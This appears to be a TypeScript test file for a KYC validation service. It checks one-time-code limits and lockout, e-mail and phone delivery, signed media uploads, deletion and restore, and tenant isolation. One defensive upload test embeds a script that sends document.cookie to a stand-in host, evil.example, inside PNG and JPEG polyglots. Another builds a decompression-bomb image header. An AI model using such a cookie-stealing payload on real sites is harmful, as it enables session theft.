import { db, eventually } from '@kyc/testing';

import { created, email, finished, s, useValidationsSuite } from './validations-fixture';
import { expectError, ihdr, jpegLike, otpFromMail, pngOf, upload, waitFinished } from './validations-helpers';

describe('validations: e-mail and phone OTP, media, delete and restore', () => {
  // Four codes an hour to one address (the suite sends three to ana@mail.test).
  useValidationsSuite({ OTP_ISSUE_PER_ADDRESS_PER_HOUR: '4' });

  /** An account enrolled for e-mail verification at its own address. */
  const enrolled = async (accountId: string) => {
    await s.api.post('/v1/accounts', { account_id: accountId, first_name: 'Ana' });
    await s.api.post('/v1/enrollments', {
      type: 'email-verification',
      user_authorized: 'true',
      account_id: accountId,
      email: `${accountId}@mail.test`,
    });
    return { type: 'email-verification', user_authorized: 'true', account_id: accountId };
  };
  const guess = (id: string, token: string) =>
    s.api.post(`/v1/validations/${id}`, { type: 'email-verification', token });
  const wrongOf = (code: string) => String((Number(code) + 1) % 1_000_000).padStart(6, '0');

  describe('one-time codes: attempts, lockout and limits (issue 37)', () => {
    it('evaluates at most the allowed guesses of a concurrent burst of wrong codes', async () => {
      const body = await enrolled('burst-user');
      const res = await s.api.post('/v1/validations', body);
      expect(res.body.attempts_left).toBe(3);
      const { code } = await otpFromMail(s.smtp, 'burst-user@mail.test');
      const burst = await Promise.all(Array.from({ length: 30 }, () => guess(res.body.validation_id, wrongOf(code))));
      // Each evaluated guess answers the validation (the third, declined); the others 409 or 429.
      expect(burst.filter((r) => r.status === 200).length).toBeLessThanOrEqual(3);
      expect(burst.every((r) => [200, 409, 429].includes(r.status))).toBe(true);
      const codes = await db().query('SELECT attempts FROM validations.one_time_codes WHERE reference = $1', [
        res.body.validation_id,
      ]);
      expect(codes.rows).toEqual([{ attempts: 3 }]);
      const v = await s.api.get(`/v1/validations/${res.body.validation_id}`);
      expect(v.body).toMatchObject({
        validation_status: 'failure',
        declined_reason: 'max_retries_exceeded',
        attempts_left: 0,
      });
    });

    it("counts an account's wrong guesses across its validations, then locks it out in plain words", async () => {
      const body = await enrolled('lock-user');
      const answers: number[] = [];
      let last: Awaited<ReturnType<typeof guess>> | undefined;
      for (let n = 0; n < 4 && last?.status !== 429; n++) {
        s.smtp.messages.length = 0;
        const res = await s.api.post('/v1/validations', body);
        expect(res.status).toBe(201);
        const { code } = await otpFromMail(s.smtp, 'lock-user@mail.test');
        for (let g = 0; g < 3 && last?.status !== 429; g++) {
          last = await guess(res.body.validation_id, wrongOf(code));
          answers.push(last.status);
        }
      }
      // Ten wrong guesses (OTP_MAX_ATTEMPTS_PER_SUBJECT): nine answered, the tenth starts the lockout.
      expect(answers).toEqual([...Array(9).fill(200), 429]);
      expectError(last!, 429, 'too_many_attempts');
      expect(last!.body.message).toMatch(/^too many attempts: try again in 1[45] minutes$/);
      // The guess that started the lockout was compared: it used one of the validation's attempts.
      const lastId = (await s.api.get('/v1/accounts/lock-user/validations')).body.validations[0].validation_id;
      expect((await s.api.get(`/v1/validations/${lastId}`)).body).toMatchObject({
        validation_status: 'pending',
        attempts_left: 2,
      });
      // No new code is sent while the account is locked out.
      const refused = await s.api.post('/v1/validations', body);
      expectError(refused, 429, 'too_many_attempts');
      s.smtp.messages.length = 0;
    });

    it('limits the codes sent to one address an hour', async () => {
      const body = await enrolled('issue-user');
      const statuses: number[] = [];
      for (let n = 0; n < 5; n++) statuses.push((await s.api.post('/v1/validations', body)).status);
      expect(statuses).toEqual([201, 201, 201, 201, 429]);
      const refused = await s.api.post('/v1/validations', body);
      expectError(refused, 429, 'too_many_codes');
      expect(refused.body.message).toMatch(
        /^too many codes were sent to this e-mail address: try again in 1[45] minutes$/,
      );
      s.smtp.messages.length = 0;
    });
  });

  describe('e-mail OTP over SMTP', () => {
    it('sends the code with the configured texts; the right code succeeds and confirms the enrollment', async () => {
      await s.api.put('/v1/config', {
        validator: 'email-verification',
        email_subject: 'Código de Acme',
        email_text_1: 'Tu código es:',
        email_text_2: 'Vence pronto.',
      });
      const res = await s.api.post('/v1/validations', { ...email, custom_input: 'order-7' });
      expect(res.status).toBe(201);
      expect(res.body).toMatchObject({
        type: 'email-verification',
        validation_status: 'pending',
        attempts_left: 3,
        custom_input: 'order-7',
      });
      const mail = await otpFromMail(s.smtp, 'ana@mail.test');
      expect(mail.subject).toBe('Código de Acme');
      expect(mail.text).toContain('Tu código es:');
      expect(mail.text).toContain('Vence pronto.');
      const row = (
        await db().query('SELECT code_hash, subject FROM validations.one_time_codes WHERE reference = $1', [
          res.body.validation_id,
        ])
      ).rows[0];
      expect(row.code_hash).toMatch(/^[\w-]{43}$/);
      expect(row.code_hash).not.toContain(mail.code);
      const wrong = String((Number(mail.code) + 1) % 1_000_000).padStart(6, '0');
      const bad = await s.api.post(`/v1/validations/${res.body.validation_id}`, {
        type: 'email-verification',
        token: wrong,
      });
      expect(bad.status).toBe(200);
      expect(bad.body).toMatchObject({ validation_status: 'pending', attempts_left: 2 });
      const ok = await s.api.post(`/v1/validations/${res.body.validation_id}`, {
        type: 'email-verification',
        token: mail.code,
      });
      expect(ok.status).toBe(200);
      expect(ok.body.validation_status).toBe('success');
      // single use
      expectError(
        await s.api.post(`/v1/validations/${res.body.validation_id}`, { type: 'email-verification', token: mail.code }),
        409,
        'validation_not_pending',
      );
      const enrollments = await s.api.get('/v1/accounts/mail-user/enrollments');
      expect(enrollments.body.enrollments[0]).toMatchObject({
        status: 'success',
        validation_id: res.body.validation_id,
      });
      s.smtp.messages.length = 0;
    });

    it('fails when the retries run out, and publishes validation.finished to Kafka once', async () => {
      await s.api.put('/v1/config', { validator: 'email-verification', allowed_retries: '1' });
      const res = await s.api.post('/v1/validations', email);
      const { code } = await otpFromMail(s.smtp, 'ana@mail.test');
      const wrong = code === '000000' ? '111111' : '000000';
      const id = res.body.validation_id;
      expect(
        (await s.api.post(`/v1/validations/${id}`, { type: 'email-verification', token: wrong })).body.attempts_left,
      ).toBe(1);
      const last = await s.api.post(`/v1/validations/${id}`, { type: 'email-verification', token: wrong });
      expect(last.body).toMatchObject({
        validation_status: 'failure',
        failure_status: 'declined',
        declined_reason: 'max_retries_exceeded',
        attempts_left: 0,
      });
      // even the right code is refused now
      expectError(
        await s.api.post(`/v1/validations/${id}`, { type: 'email-verification', token: code }),
        409,
        'validation_not_pending',
      );
      await eventually(() => expect(finished.messages.filter((m) => m.key === id)).toHaveLength(1), {
        timeoutMs: 15_000,
      });
      await new Promise((r) => setTimeout(r, 1500));
      const events = finished.messages.filter((m) => m.key === id);
      expect(events).toHaveLength(1);
      expect(events[0].value).toMatchObject({
        type: 'validations.validation.finished',
        aggregate_id: id,
        payload: {
          validation: {
            validation_id: id,
            validation_status: 'failure',
            declined_reason: 'max_retries_exceeded',
            // the address the code was sent to (its enrollment), for the services that take the e-mail as proven
            enrolled_email: 'ana@mail.test',
          },
        },
      });
      expect(created.messages.filter((m) => m.key === id)).toHaveLength(1);
      await s.api.delete('/v1/config?validator=email-verification');
      s.smtp.messages.length = 0;
    });

    it('refuses a perform with the wrong type or without token', async () => {
      const res = await s.api.post('/v1/validations', email);
      const id = res.body.validation_id;
      expectError(
        await s.api.post(`/v1/validations/${id}`, { type: 'phone-verification', token: '123456' }),
        400,
        'wrong_validation_type',
      );
      expectError(
        await s.api.post(`/v1/validations/${id}`, { type: 'email-verification' }),
        400,
        'validation_failed',
        'token',
      );
      expectError(
        await s.api.post(`/v1/validations/${id}`, { type: 'document-validation', token: '1' }),
        400,
        'validation_failed',
        'type',
      );
      expect((await s.api.get(`/v1/validations/${id}`)).body.attempts_left).toBe(3);
    });
  });

  describe('phone OTP through the sandbox provider', () => {
    it('delivers by the channel with the custom name; the code from the sandbox sink succeeds', async () => {
      await s.api.post('/v1/enrollments', {
        type: 'phone-verification',
        user_authorized: 'true',
        account_id: 'mail-user',
        country: 'CO',
        phone_number: '+573009998877',
        phone_type: 'office',
      });
      await s.api.put('/v1/config', { validator: 'phone-verification', custom_name: 'Acme Bank' });
      const res = await s.api.post('/v1/validations', {
        type: 'phone-verification',
        user_authorized: 'true',
        account_id: 'mail-user',
        phone_locale: 'en',
        verify_channel: 'call',
        phone_type: 'office',
      });
      expect(res.status).toBe(201);
      const message = await eventually(async () => {
        const r = await s.api.get('/v1/sandbox/phone-messages?phone_number=%2B573009998877');
        expect(r.body.messages).toHaveLength(1);
        return r.body.messages[0];
      });
      expect(message).toMatchObject({ channel: 'call', validation_id: res.body.validation_id });
      expect(message.text).toMatch(/^Acme Bank: your verification code is \d{6}$/);
      const code = /(\d{6})$/.exec(message.text)![1];
      const ok = await s.api.post(`/v1/validations/${res.body.validation_id}`, {
        type: 'phone-verification',
        token: code,
      });
      expect(ok.body.validation_status).toBe('success');
    });

    it('fails with otp_delivery_failed when the provider cannot reach the number', async () => {
      await s.api.post('/v1/enrollments', {
        type: 'phone-verification',
        user_authorized: 'true',
        account_id: 'mail-user',
        country: 'US',
        phone_number: '+15550001234',
        phone_type: 'recover',
      });
      const res = await s.api.post('/v1/validations', {
        type: 'phone-verification',
        user_authorized: 'true',
        account_id: 'mail-user',
        phone_locale: 'es',
        verify_channel: 'sms',
        phone_type: 'recover',
      });
      const v = await waitFinished(s.api, res.body.validation_id);
      expect(v).toMatchObject({
        validation_status: 'failure',
        failure_status: 'system_error',
        failure_reason: 'otp_delivery_failed',
      });
    });
  });

  describe('media upload', () => {
    const createDoc = () =>
      s.api.post('/v1/validations', {
        type: 'document-validation',
        user_authorized: 'true',
        country: 'CO',
        document_type: 'national-id',
      });

    it('gives signed front and reverse links; refuses bad signatures, non-Base64, other types and large files', async () => {
      const res = await createDoc();
      expect(res.status).toBe(201);
      const { front_url: front, reverse_url: reverse } = res.body.instructions;
      expect(front).toMatch(/\/v1\/uploads\/MED[0-9a-f]{32}\?expires=\d+&signature=[\w-]+$/);
      expectError(
        await upload(front.replace(/signature=[\w-]+/, 'signature=forged'), jpegLike()),
        403,
        'invalid_upload_link',
      );
      expectError(
        await upload(front.replace(/expires=\d+/, 'expires=9999999999'), jpegLike()),
        403,
        'invalid_upload_link',
      );
      const notBase64 = await fetch(front, {
        method: 'PUT',
        headers: { 'content-type': 'text/plain' },
        body: '%%% not base64 %%%',
      });
      expect(notBase64.status).toBe(400);
      expect(((await notBase64.json()) as { error_code: string }).error_code).toBe('invalid_base64');
      expectError(await upload(front, Buffer.from('%PDF-1.4 a pdf')), 415, 'unsupported_media_type');
      expectError(await upload(front, jpegLike(5000)), 413, 'media_too_large');
      expect((await upload(front, jpegLike(), 'application/octet-stream')).status).toBe(200);
      expectError(await upload(front, jpegLike()), 409, 'media_already_uploaded');
      const pending = await s.api.get(`/v1/validations/${res.body.validation_id}`);
      expect(pending.body.validation_status).toBe('pending');
      expect(Object.keys(pending.body.instructions)).toEqual(['reverse_url', 'upload_expiration']);
      const processing = await db().query('SELECT media_complete_at FROM validations.validations WHERE id = $1', [
        res.body.validation_id,
      ]);
      expect(processing.rows[0].media_complete_at).toBeNull();
      expect((await upload(reverse, jpegLike())).status).toBe(200);
      const started = await db().query('SELECT media_complete_at FROM validations.validations WHERE id = $1', [
        res.body.validation_id,
      ]);
      expect(started.rows[0].media_complete_at).not.toBeNull();
    });

    it('measures an image from its header before decoding: 40 MP at 16 bits in a small PNG is 400 image_too_large', async () => {
      const { front_url: front, reverse_url: reverse } = (await createDoc()).body.instructions;
      // Its pixel data is not even valid: only the header can have refused it, nothing decoded it.
      const bomb = pngOf([ihdr(8000, 5000, 16), ['IDAT', Buffer.alloc(300, 1)], ['IEND', Buffer.alloc(0)]]);
      const res = await upload(front, bomb);
      expectError(res, 400, 'image_too_large');
      expect(res.body.message).toMatch(/8000x5000 at 16 bits .* the limit is 16 megapixels/);
      // 17 MP at 8 bits is over too; 4 MP at 16 bits (8 counted) is within and takes the slot.
      expectError(await upload(front, pngOf([ihdr(4250, 4000, 8), ['IEND', Buffer.alloc(0)]])), 400, 'image_too_large');
      expect((await upload(reverse, pngOf([ihdr(2000, 2000, 16), ['IEND', Buffer.alloc(0)]]))).status).toBe(200);
    });

    it('refuses an image that is not only what its magic bytes claim (HTML polyglots), 415', async () => {
      const { front_url: front } = (await createDoc()).body.instructions;
      const html = Buffer.from('<html><body><script>fetch("//evil.example/"+document.cookie)</script></body></html>');
      const png = pngOf([ihdr(1, 1, 8), ['IEND', Buffer.alloc(0)]]);
      for (const polyglot of [
        Buffer.concat([png, html]), // after IEND
        pngOf([ihdr(1, 1, 8), ['tEXt', Buffer.concat([Buffer.from('c\0'), html])], ['IEND', Buffer.alloc(0)]]),
        Buffer.concat([
          jpegLike(64).subarray(0, -2),
          Buffer.from([0xff, 0xfe, 0, html.length + 2]),
          html,
          Buffer.from([0xff, 0xd9]),
        ]),
      ]) {
        const res = await upload(front, polyglot);
        expectError(res, 415, 'unsupported_media_type');
        expect(res.body.message).toMatch(/markup|after its end/);
      }
      expect((await upload(front, png)).status).toBe(200);
    });

    it('show_details adds the inputs and media links valid 15 minutes; delete hides them, restore brings them back', async () => {
      const res = await createDoc();
      const id = res.body.validation_id;
      const image = jpegLike(200);
      await upload(res.body.instructions.front_url, image);
      const plain = await s.api.get(`/v1/validations/${id}`);
      expect(plain.body.media).toBeUndefined();
      expect(plain.body.inputs).toBeUndefined();
      // The GET reads the validation and both slots in one statement: only the empty one keeps its link.
      expect(plain.body.instructions).toEqual({
        reverse_url: res.body.instructions.reverse_url,
        upload_expiration: res.body.instructions.upload_expiration,
      });
      const detailed = await s.api.get(`/v1/validations/${id}?show_details=true`);
      expect(detailed.body.inputs).toMatchObject({
        country: 'CO',
        document_type: 'national-id',
        type: 'document-validation',
      });
      expect(detailed.body.inputs.user_authorized).toBeUndefined();
      const [media] = detailed.body.media;
      expect(media).toMatchObject({ slot: 'front', content_type: 'image/jpeg', size: 200 });
      const ttl = new Date(media.expires_at).getTime() - Date.now();
      expect(ttl).toBeGreaterThan(14 * 60_000);
      expect(ttl).toBeLessThanOrEqual(15 * 60_000);
      const file = await fetch(media.url);
      expect(file.status).toBe(200);
      expect(file.headers.get('content-type')).toBe('image/jpeg');
      expect(file.headers.get('x-content-type-options')).toBe('nosniff');
      expect(Buffer.from(await file.arrayBuffer()).equals(image)).toBe(true);
      expect((await fetch(media.url.replace(/signature=[\w-]+/, 'signature=x'))).status).toBe(403);
      // the account-scoped read answers the same
      const scoped = await s.api.get(`/v1/accounts/${res.body.account_id}/validations/${id}?show_details=true`);
      expect(scoped.status).toBe(200);
      expect(scoped.body.validation_id).toBe(id);
      expectError(await s.api.get(`/v1/accounts/mail-user/validations/${id}`), 404, 'validation_not_found');

      expect((await s.api.delete(`/v1/validations/${id}`)).status).toBe(200);
      expectError(await s.api.get(`/v1/validations/${id}`), 404, 'validation_not_found');
      expect((await fetch(media.url)).status).toBe(404);
      expectError(await s.api.delete(`/v1/validations/${id}`), 404, 'validation_not_found');
      const restored = await s.api.post(`/v1/validations/${id}/restore`);
      expect(restored.status).toBe(200);
      expect(restored.body.validation_id).toBe(id);
      expect((await fetch(media.url)).status).toBe(200);
      expect((await s.api.get(`/v1/validations/${id}?show_details=true`)).body.inputs.country).toBe('CO');
      expectError(await s.api.post(`/v1/validations/${id}/restore`), 409, 'validation_not_deleted');
    });

    it('lists validations of the tenant and of an account, newest first', async () => {
      const list = await s.api.get('/v1/validations');
      expect(list.status).toBe(200);
      expect(list.body.validations.length).toBeGreaterThan(3);
      const ofAccount = await s.api.get('/v1/accounts/mail-user/validations');
      expect(ofAccount.body.validations.every((v: { account_id: string }) => v.account_id === 'mail-user')).toBe(true);
      expectError(await s.api.get('/v1/accounts/nobody/validations'), 404, 'account_not_found');
    });

    it('keeps other tenants out', async () => {
      const { createTenant } = await import('@kyc/testing');
      const other = await createTenant(s.account.url, [s.validations.url]);
      const mine = await s.api.get('/v1/validations');
      const id = mine.body.validations[0].validation_id;
      expectError(await s.api.withKey(other.apiKey).get(`/v1/validations/${id}`), 404, 'validation_not_found');
      expect((await s.api.withKey(other.apiKey).get('/v1/validations')).body.validations).toEqual([]);
    });
  });
});
